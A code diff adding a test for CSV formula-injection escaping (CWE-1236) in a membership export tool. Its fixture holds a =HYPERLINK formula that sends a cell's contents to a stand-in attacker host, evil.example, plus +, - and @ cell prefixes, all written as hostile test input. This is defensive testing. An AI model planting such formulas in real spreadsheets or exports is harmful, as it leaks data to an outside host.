@@ -90,3 +90,27 @@ def test_export_to_an_unwritable_place_fails_cleanly(run: Run, tmp_path: Path, r
     assert result.stderr.startswith("error: cannot write ")
     with runtime.sessions() as session:
         assert list_entries(session, action="members.export") == []
+
+
+def test_a_cell_a_spreadsheet_would_run_is_exported_as_text_and_imported_as_written(
+    run: Run, write: Write, tmp_path: Path
+) -> None:
+    """A name like ``=HYPERLINK(...)`` must not become a formula in the Board's spreadsheet (CWE-1236)."""
+    people = write(
+        "members.csv",
+        MEMBER_HEADER,
+        'M1,,"=HYPERLINK(""http://evil.example/?q=""&A1,""Ann"")",ann@example.net,active,',
+        "M2,,+Bob,bob@example.net,active,",
+        "-M3,,@Cleo,cleo@example.net,active,",
+    )
+    assert run("import", "--members", str(people)).exit_code == 0
+    out = tmp_path / "out-members.csv"
+    assert run("export", "--members", str(out), "--as", "board").exit_code == 0
+    assert out.read_text() == (
+        "member_number,org_id,name,email,status,paid_through\n"
+        "'-M3,,'@Cleo,cleo@example.net,active,\n"
+        'M1,,"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Ann"")",ann@example.net,active,\n'
+        "M2,,'+Bob,bob@example.net,active,\n"
+    )
+    again = run("import", "--members", str(out), "--as-of", AS_OF, "--json")
+    assert json.loads(again.stdout)["members"] == {"created": 0, "updated": 0, "unchanged": 3}
